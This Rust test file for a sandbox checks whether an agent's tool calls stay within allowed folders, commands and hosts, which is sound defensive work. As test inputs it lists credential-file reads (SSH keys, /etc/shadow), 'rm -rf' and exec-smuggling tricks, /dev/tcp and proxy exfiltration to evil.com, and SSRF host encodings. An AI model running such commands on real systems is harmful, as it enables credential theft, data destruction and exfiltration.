//! The sandbox as tables: what gets past others, what must not be stopped, and laws that hold for all calls.

use lockgate_call::{Call, Files, Links, visible};
use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;

fn texts(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|text| (*text).to_owned()).collect()
}

/// A desk with a shell: one folder, one forbidden in it, and a list of programs.
fn desk() -> Boundaries {
    let commands =
        ["ls", "cat", "git", "grep", "find", "echo", "env", "awk", "python3", "sed", "tar", "sort"];
    Boundaries {
        within: texts(&["/desk/ws"]),
        not_within: texts(&["/desk/ws/.git"]),
        commands: Some(texts(&commands)),
        ..Boundaries::default()
    }
}

/// A door to a few hosts.
fn few_hosts() -> Boundaries {
    Boundaries { domains: Some(texts(&["api.example.com", "*.good.com"])), ..Boundaries::default() }
}

/// A door to all hosts but a few.
fn most_hosts() -> Boundaries {
    Boundaries {
        domains: Some(texts(&["*"])),
        not_domains: texts(&["evil.com", "*.evil.com", "127.0.0.1", "169.254.169.254"]),
        ..Boundaries::default()
    }
}

fn sandbox(boundaries: Boundaries) -> Sandbox {
    Sandbox::new(boundaries).unwrap()
}

fn bare(input: &Value) -> Call {
    let mut call = Call { input: input.as_object().cloned().unwrap(), ..Call::new("1", "tool") };
    call.about.cwd = Some("/desk/ws".into());
    call
}

fn call(input: &Value) -> SeenCall {
    bare(input).into()
}

fn script(text: &str) -> SeenCall {
    call(&json!({ "command": text }))
}

fn linked(call: SeenCall) -> SeenCall {
    SeenCall::looked_at(call.into_call(), Some(link()))
}

/// A machine on which `/desk/ws/link` leads out, and `hard.txt` has a second name that nobody knows.
fn link() -> Links {
    let links = [
        ("/desk/ws/link", Some("/desk/outside")),
        ("/desk/ws/link/secret.txt", Some("/desk/outside/secret.txt")),
        ("/desk/ws/hard.txt", None),
    ];
    links.into_iter().map(|(path, real)| (path.to_owned(), real.map(ToOwned::to_owned))).collect()
}

fn check(boundaries: Boundaries, is_inside: bool, calls: impl IntoIterator<Item = SeenCall>) {
    let sandbox = sandbox(boundaries);
    for call in calls {
        let reached = sandbox.judge(&call);
        assert_eq!(reached == Reached::Inside, is_inside, "{:?}: {reached:?}", call.input);
    }
}

#[test]
fn a_path_that_leads_out_is_seen_in_a_script() {
    let rows = [
        "cat ../outside/secret.txt",
        "cat ~/.ssh/id_rsa",
        "cat ~root/.ssh/id_rsa",
        "cat $HOME/.ssh/id_rsa",
        "ls $OLDPWD",
        "git --git-dir=/etc/.git log",
        "grep -f/etc/shadow a",
        "tar -cf o --directory=/etc p",
        "cat {/etc/passwd,/etc/shadow}",
        "cat $\"/etc/passwd\"",
        "echo pwned>/etc/cron.d/x",
        "cat a</etc/passwd",
        "cat <>/etc/passwd",
        "echo hi {fd}>/etc/x",
        "echo hi > ../outside/x",
        "cat ../*/secret.txt",
        "cat \"../outside/secret.txt\"",
        "cat .git/config",
        "git config -l",
        "cat /etc/passwd",
        "cat /proc/self/root/etc/passwd",
        "cat .GIT/config",
        "cat .g*/config",
        "cat [.]git/config",
        "grep -rn x",
        "grep -rn x .",
        "grep -r --include '*.c' x",
        "find . -name x",
        "find",
        "tar -cf o .",
        "ls -R",
        "echo .git/*",
        "echo /etc/*",
        "echo \"$(</etc/passwd)\"",
        "cd .. && ls",
        "cd /etc; ls",
        "cd; ls",
        "HOME=/etc; cat ~/passwd",
        "sed r/etc/passwd a",
        "sed -n w../x a",
        "sed a -e 'r /etc/passwd'",
        "awk '{ print > \"/et\" \"c/x\" }' a",
        "awk 'BEGIN { while ((getline l < f) > 0) print l }' f=/etc/passwd",
        "awk -f ../x a",
        "sort -o ../x a",
        "sort --files0-from=/etc/x",
        "git -C .. log",
        "git diff --no-index /etc/passwd a",
        "git log --output=../x",
        "find . -fprintf ../x %p",
        "ls a | cat - ../x",
    ];
    check(desk(), false, rows.map(script));
    check(desk(), false, [linked(script("cat link/secret.txt")), linked(script("cat hard.txt"))]);
}

#[test]
fn a_path_that_leads_out_is_seen_in_a_field() {
    let rows = [
        json!({ "filename": "../outside/x" }),
        json!({ "options": { "path": "/etc/passwd" } }),
        json!({ "paths": ["/etc/passwd"] }),
        json!({ "path": ["/etc/passwd"] }),
        json!({ "file": " /etc/passwd" }),
        json!({ "path": "~/.ssh/id_rsa" }),
        json!({ "path": "$HOME/.ssh/id_rsa" }),
        json!({ "path": "/desk/ws/%2e%2e/%2e%2e/etc" }),
        json!({ "path": "file:///etc/passwd" }),
        json!({ "command": "cat outside/secret.txt", "cwd": ".." }),
        json!({ "Path": "../outside/x" }),
        json!({ "target_file": "../outside/x" }),
        json!({ "path": "/desk/ws\0/../../etc" }),
        json!({ "path": "/desk/ws/a\n" }),
        json!({ "path": "/proc/self/root/etc/passwd" }),
        json!({ "path": "/desk/wsx" }),
        json!({ "path": "" }),
        json!({ "path": "a", "other": ".git/config" }),
        json!({ "path": "a", "files": { ".git/config": "text" } }),
        json!({ "path": "a", "other": ["../x"] }),
        json!({ "commands": "cat ../x" }),
        json!({ "command": "ls", "cwd": "/etc" }),
        json!({ "command": "ls", "workdir": "/etc" }),
    ];
    check(desk(), false, rows.iter().map(call));
    let rows = [json!({ "path": "link/secret.txt" }), json!({ "path": "a", "other": "link/secret.txt" })];
    check(desk(), false, rows.iter().map(|input| linked(call(input))));
}

#[test]
fn a_command_that_is_not_listed_is_seen_wherever_it_hides() {
    let rows = [
        "awk 'BEGIN{system(\"id\")}'",
        "python3 -c 'import os; os.system(\"id\")'",
        "python3 -c 'print(open(1))'",
        "python3 <<< 'print(1)'",
        "git -c alias.x=!id x",
        "find a -exec rm -rf {} +",
        "find .. -delete",
        "env -C /etc ls",
        "env --chdir=.. ls",
        "python3 -m timeit 'f(x)'",
        "env rm -rf ..",
        "env rm a",
        "tar --checkpoint-action=exec=id -cf o a",
        "tar cIf id o a",
        "sed 1e a",
        "sed '1e id' a",
        "sed '/a\\/b/e id' a",
        "sort --compress-program=id a",
        "rm a",
        "ls; rm a",
        "ls && rm a",
        "ls | rm a",
        "ls & rm a",
        "echo $(rm a)",
        "echo `rm a`",
        "cat <(rm a)",
        "./ls",
        "/desk/ws/ls",
        "/bin/../desk/ws/ls",
        "=ls",
        "/bin/l?",
        "$x",
        "r''m a",
        "sudo ls",
        "bash -c ls",
        "eval ls",
        "ls() { rm a; }; ls",
        "PATH=. ls",
        "PATH=.; ls",
        "for PATH in .; do ls; done",
        "((PATH=5)); ls",
        "LD_PRELOAD=./x ls",
        "env PATH=. ls",
        "GIT_PAGER='rm a' git log",
        "HOME=. git status",
        "git x",
        "git -c include.path=x status",
        "git --exec-path=. status",
        "git grep -Orm x",
        "git clone 'ext::sh -c id' a",
        "git config set core.editor 'rm a'",
        "./env ls",
        "LS",
        "ls\u{a0}a",
        "ls\nrm a",
        "ls\0; rm a",
        "if true; then rm a; fi",
    ];
    check(desk(), false, rows.map(script));
    let inputs = [
        json!({ "command": ["rm", "-rf", "/"] }),
        json!({ "command": ["rm", "a"] }),
        json!({ "cmd": "rm -rf /" }),
        json!({ "cmd": "rm a" }),
        json!({ "script": "rm a" }),
        json!({ "input": { "command": "rm a" } }),
        json!({ "commands": ["rm a", "ls"] }),
        json!({ "bash": "rm a", "path": "a" }),
        json!({ "code": "import os", "path": "a" }),
        json!({ "run": "rm a", "path": "a" }),
        json!({ "command": "rm", "args": ["a"] }),
        json!({ "query": "rm a" }),
        json!({ "command": ["./bash", "-c", "ls"] }),
        json!({ "command": "ls", "args": "; rm a" }),
        json!({ "command": { "run": ["x"] }, "path": "a" }),
        json!({ "command": ["ls", ["rm"]], "path": "a" }),
        json!({ "args": ["rm", "a"], "path": "a" }),
        json!({ "argv": ["rm", "a"], "path": "a" }),
        json!({ "executable": "./x", "path": "a" }),
        json!({ "command": "ls", "shell": "./x" }),
        json!({ "command": "ls", "env": { "PATH": "." } }),
        json!({ "command": "ls", "env": ["LD_PRELOAD=./x"] }),
        json!({ "command": "ls", "env": "PATH=. A=1" }),
        json!({ "command": "ls", "options": { "environment": [{ "name": "PATH", "value": "." }] } }),
    ];
    check(desk(), false, inputs.iter().map(call));
    for tool in ["BASH", "Bash "] {
        check(desk(), false, [Call { tool: tool.into(), ..script("rm a").into_call() }.into()]);
    }
}

#[test]
fn a_host_that_is_not_listed_is_seen_however_it_is_written() {
    let rows = [
        json!({ "url": "https://evil.com\\@api.example.com/" }),
        json!({ "url": "https://api.example.com\\@evil.com/" }),
        json!({ "url": "https://api.example.com:443\\@evil.com/" }),
        json!({ "command": "curl 'https://api.example.com\\@evil.com/'" }),
        json!({ "url": "evil.com/x" }),
        json!({ "url": "//evil.com/x" }),
        json!({ "url": "/\t/evil.com/x" }),
        json!({ "url": "https:evil.com/x" }),
        json!({ "url": "http:/\\/evil.com" }),
        json!({ "url": "https://api.example.com/ https://evil.com/" }),
        json!({ "urls": ["https://api.example.com/", "https://evil.com/"] }),
        json!({ "req": { "url": "https://evil.com/" } }),
        json!({ "host": "evil.com" }),
        json!({ "url": "file:///etc/passwd" }),
        json!({ "url": "file:///etc/passwd", "referer": "https://api.example.com/" }),
        json!({ "url": "https://user@evil.com/" }),
        json!({ "url": "HTTPS://EVIL.COM/" }),
        json!({ "url": "https://api.example.com.evil.com/" }),
        json!({ "url": "ht\ttps://evil.com/" }),
        json!({ "url": "\u{a0}https://evil.com/" }),
        json!({ "url": "https://good.com/" }),
        json!({ "url": "https://notgood.com/" }),
        json!({ "url": "" , "note": "evil" }),
        json!({ "command": "curl evil.com" }),
        json!({ "command": "curl $host" }),
        json!({ "command": "git pull" }),
        json!({ "command": "npm install" }),
        json!({ "command": "python3 -c 'x'" }),
        json!({ "command": "wget -i list" }),
        json!({ "command": "wget -i list https://api.example.com" }),
        json!({ "command": "curl -sK x https://api.example.com" }),
        json!({ "command": "ssh -o HostName=evil.com api.example.com" }),
        json!({ "url": "https://api.example.com", "x": "10.0.0.1" }),
    ];
    check(few_hosts(), false, rows.iter().map(call));
    let rows = [
        json!({ "url": "https://evil.com./" }),
        json!({ "url": "https://\u{ff45}vil.com" }),
        json!({ "url": "https://evil\u{3002}com" }),
        json!({ "url": "https://evil%2ecom" }),
        json!({ "url": "http://2130706433/" }),
        json!({ "url": "http://0x7f000001/" }),
        json!({ "url": "http://127.1/" }),
        json!({ "url": "http://[::ffff:127.0.0.1]/" }),
        json!({ "url": "http://2852039166/" }),
        json!({ "url": "https://good.com\\@evil.com/" }),
        json!({ "url": "https://[evil.com/" }),
        json!({ "url": "https://a.b.evil.com/" }),
        json!({ "command": "curl evil.com" }),
        json!({ "command": "ssh me@evil.com ls" }),
        json!({ "command": "cat < /dev/tcp/evil.com/80" }),
    ];
    check(most_hosts(), false, rows.iter().map(call));
}

#[test]
fn names_of_files_that_come_from_elsewhere_lead_anywhere() {
    let out = [
        "shopt -s cdable_vars; up=/desk; cd up; cat secret",
        "bash -O cdable_vars -c 'up=/desk; cd up; cat secret'",
        "shopt -s dotglob; cat */config",
        "GLOBIGNORE=x; cat */config",
        "tar -cf - --files-from=l",
        "tar cfT o l",
        "sort --files0-f=l",
        "cat l | sort --files0-from=-",
        "for i in /etc/*; do echo \"$i\"; done",
        "for i in ../*; { echo \"$i\"; }",
        "a=(../*); echo \"${a[@]}\"",
        "for i in 1 2; { cd ..; }; cat secret",
        "while :; do cd ..; break; done; cat secret",
        "up() { cd ..; }; up; up; cat secret",
        "sed -f - f <<< 'r ../secret'",
        "echo 'r ../secret' > p; sed -f p f",
        "awk -f - f <<< '{while((getline l < \"../secret\")>0)print l}'",
        "GIT_DIR=/desk/other/.git; export GIT_DIR; git log",
        "echo 'print(1)' > p.py; python3 -m p",
    ];
    check(desk(), false, out.map(script));
    let inside = [
        "for f in src/*.rs; do cat \"src/lib.rs\"; done",
        "for i in 1 2; do echo $i; done; cat a",
        "sed -f a.sed f",
        "awk -f a.awk f",
        "tar -cf - src",
        "sort a b",
    ];
    check(desk(), true, inside.map(script));
}

#[test]
fn each_command_of_a_script_answers_for_its_own_hosts() {
    let after = [
        "smbclient //evil.com/share -c ls",
        "sshfs evil.com:/ m",
        "ssh-keyscan evil.com",
        "mail -s a b@evil.com < f",
        "gpg --keyserver evil.com --send-keys 1",
        "mongosh evil.com:27017/db --eval 1",
        "openssl s_client evil.com:443",
        "tar cf evil.com:/x f",
        "frob evil.com:443",
        "frob a@evil.com:b",
        "nc -x evil.com:1080 api.example.com 443",
        "nc api.example.com 443 -x evil.com:1080",
        "wget -rH https://api.example.com",
        "wget --span-hosts https://api.example.com",
        "git config http.proxy evil.com:80; git clone https://api.example.com/x",
        "git config url.evil.com:.insteadOf https://api.example.com/; git clone https://api.example.com/x",
        "export https_proxy=evil.com:80; curl https://api.example.com/",
        "https_proxy=evil.com:80; export https_proxy; curl https://api.example.com/",
        "declare -x ALL_PROXY=evil.com:80; curl https://api.example.com/",
        "read https_proxy < f; curl https://api.example.com/",
        "CURL_HOME=. curl https://api.example.com/",
        "WGETRC=w wget https://api.example.com/",
        "HOME=. ssh api.example.com ls",
    ];
    check(few_hosts(), false, after.map(|text| script(&format!("curl https://api.example.com/; {text}"))));
    let inside = [
        "ls",
        "frob main.rs lib.py",
        "frob HEAD:main",
        "no_proxy=localhost curl https://a.good.com/",
        "git config --get remote.origin.url",
        "tar czf a.tgz src",
        "nc api.example.com 443",
    ];
    check(few_hosts(), true, inside.map(|text| script(&format!("curl https://api.example.com/; {text}"))));
}

#[test]
fn what_stays_inside_is_not_stopped() {
    let rows = [
        "git commit -m \"fix; docs\"",
        "ls 2>&1",
        "ls > /dev/null 2>&1",
        "echo \"https://api.example.com/?a=1&b=2\"",
        "echo https://api.example.com/?a=1&b=2",
        "/bin/ls",
        "/usr/bin/env ls",
        "grep \"a|b\" f",
        "grep -rn x src",
        "grep -rn -A 3 x src lib",
        "ls",
        "ls -la src *.rs",
        "cat /desk/ws/a b/c ./d",
        "cat a | sort | grep x > out",
        "git status && git diff HEAD~1 -- src",
        "git log --oneline -n 5",
        "find src -name '*.rs'",
        "find src -name '*.o' -exec cat {} +",
        "sed -n '1,5p' a",
        "sed -i 's|/old/path|/new/path|g' a",
        "sed 's/[^/]*$//' a",
        "awk '$1 > 5 { print $2 }' a",
        "tar -czf out.tgz src",
        "env LANG=C sort a",
        "LC_ALL=C sort a",
        "RUST_LOG=debug sort a",
        "n=3; echo $n",
        "python3 build.py",
        "cat .gitignore",
    ];
    check(desk(), true, rows.map(script));
    let with_cd = Boundaries { commands: Some(texts(&["cd", "cat"])), ..desk() };
    check(with_cd.clone(), true, [script("cd src && cat main.rs")]);
    let walks = Boundaries {
        not_within: texts(&["/desk/ws/a/.git"]),
        commands: Some(texts(&["cd", "env", "find"])),
        ..desk()
    };
    let in_b = |text: &str| {
        let mut call = bare(&json!({ "command": text }));
        call.about.cwd = Some("/desk/ws/b".into());
        SeenCall::from(call)
    };
    check(walks.clone(), true, ["find", "cd c && find"].map(in_b));
    check(walks, false, ["cd /desk/ws/a && find", "env -C ../a find", "find ../a", "find .."].map(in_b));
    check(with_cd, false, ["cd; cat", "cd -; cat", "cd .. && cat", "cd ~ && cat"].map(script));
    let rows = [
        json!({ "path": "a/b.txt" }),
        json!({ "path": "/desk/ws" }),
        json!({ "file_path": "/desk/ws/src/main.py", "content": "import os\nprint('/etc')\n" }),
        json!({ "file_path": "a", "description": "remove the old one", "count": 3 }),
        json!({ "command": ["ls", "-la"], "timeout": 5 }),
        json!({ "command": "git", "args": ["status"] }),
        json!({ "command": "ls", "shell": "/bin/bash", "env": { "LANG": "C", "my_flag": "1" } }),
        json!({ "command": "ls", "environment": "production", "run_in_background": true }),
        json!({}),
        json!({ "count": 3, "deep": [true, null] }),
    ];
    check(desk(), true, rows.iter().map(call));
    let rows = [
        json!({ "url": "https://api.example.com/data" }),
        json!({ "url": "https://a.good.com/", "method": "GET" }),
        json!({ "url": "https://a.good.com/search?q=a\\b" }),
        json!({ "command": "curl -s https://api.example.com/" }),
        json!({ "command": "git clone https://x.good.com/a.git" }),
    ];
    check(few_hosts(), true, rows.iter().map(call));
}

#[test]
fn each_boundary_judges_what_is_its_own() {
    let within = || Boundaries { within: texts(&["/desk/ws"]), ..Boundaries::default() };
    // Without a list of commands, any may run.
    check(within(), true, [script("rm -rf build")]);
    check(within(), false, [script("rm -rf .."), script("$x"), script("python3 -c 'open(x)'")]);
    // An address is no path; only a boundary for hosts can judge it.
    let fetch = || call(&json!({ "url": "https://api.example.com/data" }));
    check(within(), false, [fetch()]);
    check(Boundaries { domains: few_hosts().domains, ..within() }, true, [fetch()]);
    check(Boundaries { commands: desk().commands, ..few_hosts() }, true, [fetch()]);
    // What says something, but nothing that could be judged, is a doubt; what says nothing is none.
    for boundaries in [within(), few_hosts(), desk(), most_hosts()] {
        check(
            boundaries.clone(),
            false,
            [call(&json!({ "query": "hello" })), call(&json!({ "a": [{ "b": "x" }] }))],
        );
        check(boundaries, true, [call(&json!({})), call(&json!({ "limit": 5, "all": true }))]);
    }
    check(Boundaries::default(), true, [script("rm -rf /")]);
}

#[test]
fn where_nobody_tells_the_folder_a_field_is_believed() {
    let untold =
        |input: Value| SeenCall::from(Call { about: lockgate_call::About::default(), ..bare(&input) });
    let inside = [
        json!({ "command": "git status", "working_directory": "/desk/ws" }),
        json!({ "command": "cat a", "cwd": "/desk/ws" }),
        json!({ "path": "/desk/ws/a" }),
    ];
    check(desk(), true, inside.map(untold));
    let outside = [
        json!({ "command": "git status" }),
        json!({ "command": "cat a" }),
        json!({ "path": "a" }),
        json!({ "command": "cat a", "cwd": "sub" }),
        json!({ "command": "cat a", "cwd": "/etc" }),
        json!({ "command": "cat ../a", "cwd": "/desk/ws" }),
        json!({ "command": "ls", "cwd": null }),
        json!({ "command": "ls", "cwd": 5 }),
        json!({ "command": "grep -rn x", "cwd": "/desk/ws" }),
    ];
    check(desk(), false, outside.map(untold));
}

#[test]
fn the_answer_names_what_and_why() {
    let say = |boundaries: Boundaries, call: &SeenCall| match sandbox(boundaries).judge(call) {
        Reached::Inside => "inside".to_owned(),
        Reached::Outside(what) => format!("outside: {what}"),
        Reached::Doubt(what) => format!("doubt: {what}"),
    };
    let linked = linked(call(&json!({ "path": "link/secret.txt" })));
    let long = call(&json!({ "path": format!("/{}", "x".repeat(text::SHOWN_CHARS_MAX)) }));
    let few = || Boundaries { commands: Some(texts(&["ls", "cat"])), ..desk() };
    let answers = [
        say(desk(), &call(&json!({ "path": "/etc/passwd" }))),
        say(desk(), &call(&json!({ "path": "/desk/ws/.git/x" }))),
        say(desk(), &call(&json!({ "note": "/etc/passwd" }))),
        say(desk(), &linked),
        say(few(), &script("ls; rm a")),
        say(few(), &script("$x")),
        say(few(), &script("PATH=. ls")),
        say(few_hosts(), &call(&json!({ "url": "https://evil.com/" }))),
        say(most_hosts(), &call(&json!({ "url": "https://evil.com/" }))),
        say(desk(), &call(&json!({ "query": "hello" }))),
        say(desk(), &long),
    ];
    insta::assert_snapshot!(answers.join("\n"), @"
    outside: `/etc/passwd` is outside of `/desk/ws`
    outside: `/desk/ws/.git/x` is in `/desk/ws/.git`
    doubt: `/etc/passwd` is outside of `/desk/ws`, if it is meant as a path
    outside: `link/secret.txt` leads to `/desk/outside/secret.txt`, which is outside of `/desk/ws`
    outside: `rm` is not among the commands that may run: `ls`, `cat`
    doubt: the program `$x` is only known when the script runs
    doubt: the script sets `PATH`, by which a program may become another
    outside: `https://evil.com/` is not among the hosts that may be reached
    outside: `https://evil.com/` is a host that may not be reached
    doubt: the call does not say what it would access
    outside: `/xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…` is outside of `/desk/ws`
    ");
}

#[test]
fn a_boundary_that_means_nothing_is_refused() {
    let domains =
        |text: &str| Sandbox::new(Boundaries { domains: Some(texts(&[text])), ..Boundaries::default() });
    for text in ["https://example.com", "example.com/x", "", "a b", "exa*mple.com/x"] {
        assert!(domains(text).is_err(), "{text}");
    }
    for text in
        ["example.com", "*", "*.example.com", "api-*.example.com", "*example.com", "[ab].com", "127.0.0.1"]
    {
        assert!(domains(text).is_ok(), "{text}");
    }
    for folder in ["", "~/x", "a\0b", "../x"] {
        let boundaries = Boundaries { not_within: texts(&[folder]), ..Boundaries::default() };
        assert_eq!(Sandbox::new(boundaries).unwrap_err(), SandboxError::Folder(visible(folder)));
    }
    for command in ["", "git status"] {
        let boundaries = Boundaries { commands: Some(texts(&[command])), ..Boundaries::default() };
        assert_eq!(Sandbox::new(boundaries).unwrap_err(), SandboxError::Command(command.into()));
    }
}

#[test]
fn a_glob_of_hosts_fits_as_in_a_shell() {
    let fits = |pattern: &str, host: &str| {
        let boundaries = Boundaries { domains: Some(texts(&[pattern])), ..Boundaries::default() };
        sandbox(boundaries).judge(&call(&json!({ "host": host }))) == Reached::Inside
    };
    let rows = [
        ("api-*.example.com", "api-1.example.com", true),
        ("api-*.example.com", "api.example.com", false),
        ("*example.com", "notexample.com", true),
        ("API-?.example.com", "api-1.EXAMPLE.com", true),
        ("a?.com", "abc.com", false),
        ("[ab].com", "a.com", true),
        ("[!ab].com", "a.com", false),
        ("[!ab].com", "c.com", true),
        ("a.c*", "abc.com", false),
        ("10.*", "10.1.2.3", true),
        ("10.*", "0x0a.1.2.3", true),
    ];
    for (pattern, host, fit) in rows {
        assert_eq!(fits(pattern, host), fit, "{pattern} {host}");
    }
}

/// A machine on which `/desk` is a link to `/data/desk`.
struct Linked;

impl Files for Linked {
    fn canonical(&self, path: &str) -> Option<String> {
        let path = if path.starts_with('/') { path.to_owned() } else { format!("/desk/{path}") };
        Some(path.strip_prefix("/desk").map_or(path.clone(), |rest| format!("/data/desk{rest}")))
    }
}

#[test]
fn a_boundary_behind_a_link_is_known_by_both_names() {
    let judge = |path: &str, resolve: bool| {
        let mut sandbox = sandbox(desk());
        if resolve {
            sandbox.resolve(&Linked);
        }
        let call = SeenCall::look(bare(&json!({ "path": path })), Some(&Linked));
        sandbox.judge(&call) == Reached::Inside
    };
    assert_eq!((judge("a", false), judge("a", true)), (false, true));
    assert_eq!((judge("/data/desk/ws/a", false), judge("/data/desk/ws/a", true)), (false, true));
    assert!(!judge("/data/desk/ws/.git/x", true) && !judge(".git/x", true) && !judge("/data/desk/x", true));
}

/// Paths outside, and commands that are not listed.
fn strays() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("/etc/passwd".to_owned()),
        Just("../outside/x".to_owned()),
        Just(".git/config".to_owned()),
        Just("a/../../x".to_owned()),
        "/[a-c]{1,3}(/[a-c]{1,3}){0,2}",
        "\\.\\./[a-c]{1,4}",
    ]
}

/// The same word as a shell would read it, written otherwise.
fn quoted() -> impl Strategy<Value = fn(&str) -> String> {
    let ways: [fn(&str) -> String; 5] = [
        |word| word.to_owned(),
        |word| format!("'{word}'"),
        |word| format!("\"{word}\""),
        |word| word.chars().map(|c| format!("\\{c}")).collect(),
        |word| word.chars().map(|c| format!("{c}''")).collect(),
    ];
    prop::sample::select(ways.to_vec())
}

/// The same value deeper in the input.
fn nested() -> impl Strategy<Value = fn(Value) -> Value> {
    let ways: [fn(Value) -> Value; 4] = [
        |value| json!({ "path": value }),
        |value| json!({ "path": [value] }),
        |value| json!({ "options": { "list": [{ "file_path": value }] } }),
        |value| json!({ "files": [value, "a"], "n": 1 }),
    ];
    prop::sample::select(ways.to_vec())
}

#[test]
fn no_name_is_lost_behind_many_others() {
    let inside = |fillers: usize, link: Option<&str>| {
        let mut names: Vec<String> = (0..fillers).map(|number| format!("word{number}")).collect();
        names.extend(link.map(ToOwned::to_owned));
        let call = SeenCall::look(bare(&json!({ "path": "a", "tags": names })), Some(&Machine));
        sandbox(Boundaries { within: texts(&["/desk/ws"]), ..Boundaries::default() }).judge(&call)
    };
    assert_eq!(inside(10, None), Reached::Inside);
    for fillers in [10, 997, 998, 999, 1_000, 1_001, 5_000] {
        assert_ne!(inside(fillers, Some("link")), Reached::Inside, "{fillers}");
    }
}

/// A machine on which `/desk/ws/link` leads out.
struct Machine;

impl Files for Machine {
    fn canonical(&self, path: &str) -> Option<String> {
        Some(if path == "/desk/ws/link" { "/desk/outside" } else { path }.to_owned())
    }
}

proptest! {
    #[test]
    fn what_is_not_inside_stays_so_however_it_is_written(
        stray in strays(),
        quote in quoted(),
        nest in nested(),
        detour in prop_oneof![Just(""), Just("./"), Just("x/../"), Just("././/")],
    ) {
        let sandbox = sandbox(desk());
        let spelt = if stray.starts_with('/') { stray.clone() } else { format!("{detour}{stray}") };
        let calls = [
            call(&nest(spelt.clone().into())),
            script(&format!("cat {}", quote(&spelt))),
            script(&format!("ls a; cat a {} > out", quote(&spelt))),
            script(&format!("echo x > {}", quote(&spelt))),
            script(&format!("echo $(cat < {})", quote(&spelt))),
            script(&format!("env cat {}", quote(&spelt))),
            script(&format!("sed 'w {spelt}' a")),
            call(&json!({ "command": ["cat", spelt] })),
            call(&json!({ "input": [{ "cmd": format!("cat {}", quote(&spelt)) }] })),
        ];
        for call in calls {
            prop_assert_ne!(sandbox.judge(&call), Reached::Inside, "{:?}", call.input);
        }
    }

    #[test]
    fn what_leads_out_by_a_link_is_not_inside(name in "[a-c]{1,4}", nest in nested(), real in strays()) {
        prop_assume!(real.starts_with('/'));
        let sandbox = sandbox(desk());
        let linked = |call: SeenCall| {
            let links = [(format!("/desk/ws/{name}"), Some(real.clone()))].into_iter().collect();
            SeenCall::looked_at(call.into_call(), Some(links))
        };
        for call in [call(&nest(name.clone().into())), script(&format!("cat {name}")), script(&format!("ls >{name}"))] {
            prop_assert_eq!(sandbox.judge(&call), Reached::Inside);
            prop_assert_ne!(sandbox.judge(&linked(call)), Reached::Inside);
        }
    }

    #[test]
    fn a_command_that_is_not_listed_is_never_inside(program in "[a-z]{2,6}", quote in quoted()) {
        let boundaries = Boundaries { commands: Some(texts(&["ls"])), ..Boundaries::default() };
        prop_assume!(program != "ls" && !["if", "do", "for", "case", "then", "while", "until", "time"].contains(&&*program));
        let sandbox = sandbox(boundaries);
        let word = quote(&program);
        for script in [
            script(&word),
            script(&format!("ls; {word} a")),
            script(&format!("ls $({word})")),
            script(&format!("ls | {word}")),
            script(&format!("if ls; then {word}; fi")),
            call(&json!({ "command": [program, "a"] })),
            call(&json!({ "x": { "script": format!("/bin/{word}") } })),
        ] {
            prop_assert_ne!(sandbox.judge(&script), Reached::Inside, "{:?}", script.input);
        }
    }
}
